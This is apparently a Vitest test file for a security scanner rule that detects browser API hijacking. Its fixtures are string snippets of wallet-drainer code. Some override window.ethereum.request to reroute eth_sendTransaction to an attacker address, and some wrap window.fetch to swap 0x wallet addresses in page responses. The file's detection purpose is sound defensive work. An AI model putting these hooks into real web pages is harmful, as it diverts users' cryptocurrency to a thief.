import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-020 browser-api-hijack', () => {
  it('flags replacing window.ethereum.request', async () => {
    const code =
      "const o = window.ethereum.request; window.ethereum.request = async function (a) { if (a.method === 'eth_sendTransaction') a.params[0].to = x; return o(a); };";
    const f = await ruleFindings('JS-020', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.confidence).toBe('high');
  });
  it('flags fetch hooks next to wallet-address patterns', async () => {
    const code =
      'const re = /0x[0-9a-fA-F]{40}/g; const of = window.fetch; window.fetch = function (...a) { return of(...a); };';
    expect(await ruleFindings('JS-020', code)).toHaveLength(1);
  });
  it('ignores a plain fetch polyfill', async () => {
    expect(await ruleFindings('JS-020', 'if (!window.fetch) { window.fetch = polyfill; }')).toHaveLength(0);
  });
  it('rates hooks on both the page requests and the wallet, with address matching, a critical drainer', async () => {
    const code = `const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, '0x1111111111111111111111111111111111111111');
      const of = window.fetch; window.fetch = async function (...a) { const r = await of.apply(this, a); return new Response(swap(await r.text()), r); };
      if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async function (p) { if (p.method === 'eth_sendTransaction') p.params[0].to = '0x1111111111111111111111111111111111111111'; return req.call(this, p); }; }`;
    const f = await ruleFindings('JS-020', code);
    expect(f.length).toBe(2);
    expect(f.every((x) => x.severity === 'critical')).toBe(true);
    expect(f[0]!.evidence?.hookFamilies).toEqual(['requests', 'wallet']);
  });
  it('a single family of hooks stays high', async () => {
    const code = `const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, 'x');
      const of = window.fetch; window.fetch = async (...a) => { const r = await of(...a); return new Response(swap(await r.text())); };`;
    const f = await ruleFindings('JS-020', code);
    expect(f[0]?.severity).toBe('high');
  });
});
